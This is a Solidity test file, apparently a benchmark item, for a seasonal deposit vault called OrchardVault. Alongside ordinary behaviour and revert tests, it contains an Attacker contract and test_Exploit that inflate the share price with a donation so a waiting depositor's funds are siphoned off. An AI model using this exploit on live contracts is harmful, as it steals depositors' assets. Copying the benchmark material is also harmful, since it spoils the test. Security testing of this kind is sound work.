// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./OrchardVault.sol";

// assay-canary-ac168c41-fb56-4214-a25c-029fa51c72a3

interface Vm {
    function prank(address who) external;
    function warp(uint256 time) external;
    function expectRevert(bytes4 reason) external;
}

contract Apple {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Member {
    Apple private token;
    OrchardVault private vault;

    constructor(Apple token_, OrchardVault vault_) {
        token = token_;
        vault = vault_;
    }

    function ask(uint128 assets) external {
        token.approve(address(vault), assets);
        vault.requestDeposit(assets);
    }

    function cancel() external {
        vault.cancelRequest();
    }

    function leave(uint256 shares) external {
        vault.redeem(shares, address(this));
    }
}

contract Attacker {
    Apple private token;
    OrchardVault private vault;

    constructor(Apple token_, OrchardVault vault_) {
        token = token_;
        vault = vault_;
    }

    // In the season in which an honest member already waits: the smallest first deposit.
    function enter() external {
        uint256 least = vault.LOCKED_SHARES() + 1;
        token.approve(address(vault), least);
        vault.requestDeposit(uint128(least));
    }

    // Once the next season has begun.
    function run(address waiting) external {
        vault.settleDeposit(address(this));
        vault.retireFees();
        (uint128 expected, ) = vault.requestOf(waiting);
        token.transfer(address(vault), expected / 2);
        vault.settleDeposit(waiting);
        vault.redeem(vault.balanceOf(address(this)), address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    Apple public token;
    OrchardVault private vault;
    Member private iris;
    Member private noor;
    Attacker private mallory;

    function setUp() public {
        token = new Apple();
        vault = new OrchardVault(IERC20(address(token)));
        iris = new Member(token, vault);
        noor = new Member(token, vault);
        mallory = new Attacker(token, vault);
        token.mint(address(iris), 100e18);
        token.mint(address(noor), 100e18);
        token.mint(address(mallory), 60e18);
        token.mint(address(this), 1000e18);
        iris.ask(100e18);
    }

    function test_Regular() public {
        (bool early, ) = address(vault).call(abi.encodeCall(OrchardVault.settleDeposit, (address(iris))));
        require(!early, "joined before the season");
        noor.ask(60e18);
        noor.cancel();
        require(token.balanceOf(address(noor)) == 100e18, "cancelled");

        vm.warp(block.timestamp + 14 days);
        vault.settleDeposit(address(iris));
        require(vault.balanceOf(address(iris)) == 100e18 - 1e6, "first shares");
        token.transfer(address(vault), 20e18);
        noor.ask(60e18);
        require(vault.totalAssets() == 120e18, "waiting tokens stay outside");

        vm.warp(block.timestamp + 14 days);
        vault.settleDeposit(address(noor));
        require(vault.balanceOf(address(noor)) == 50e18, "joined at 1.2");

        iris.leave(40e18);
        require(token.balanceOf(address(iris)) == 47.76e18, "40 shares less the fee");
        uint256 price = vault.convertToAssets(1e18);
        uint256 supply = vault.totalSupply();
        vault.retireFees();
        require(vault.totalSupply() <= supply - 0.2e18, "fees retired");
        require(vault.convertToAssets(1e18) > price, "price rose");
        noor.leave(50e18);
        require(token.balanceOf(address(noor)) > 99.7e18, "noor left with all but the fee");

        vm.prank(address(iris));
        vault.transfer(address(noor), 1e18);
        require(vault.balanceOf(address(noor)) >= 1e18, "handed on");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Requests that are none, and first deposits of nothing but what is locked.
    function test_RefusesRequests() public {
        refuses(address(noor), OrchardVault.NothingRequested.selector);
        vault.cancelRequest();
        vm.expectRevert(OrchardVault.NothingRequested.selector);
        vault.settleDeposit(address(noor));
        iris.cancel();
        noor.ask(1e6);
        vm.warp(block.timestamp + 14 days);
        vm.expectRevert(OrchardVault.FirstDepositTooSmall.selector);
        vault.settleDeposit(address(noor));
    }

    /// A deposit that is worth no share.
    function test_RefusesCrumbs() public {
        vm.warp(block.timestamp + 14 days);
        vault.settleDeposit(address(iris));
        token.transfer(address(vault), 300e18);
        noor.ask(1);
        vm.warp(block.timestamp + 14 days);
        vm.expectRevert(OrchardVault.NoShares.selector);
        vault.settleDeposit(address(noor));
    }

    /// A token that says no is believed.
    function test_RefusesFailedTransfers() public {
        token.sleep(true);
        refuses(address(noor), OrchardVault.TransferFailed.selector);
        vault.requestDeposit(1);
        refuses(address(iris), OrchardVault.TransferFailed.selector);
        vault.cancelRequest();
        vm.warp(block.timestamp + 14 days);
        vault.settleDeposit(address(iris));
        refuses(address(iris), OrchardVault.TransferFailed.selector);
        vault.redeem(1e18, address(iris));
    }

    function exploit() public {
        mallory.enter();
        vm.warp(block.timestamp + 14 days);
        mallory.run(address(iris));
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(address(mallory));
        exploit();
        require(token.balanceOf(address(mallory)) >= before + 20e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
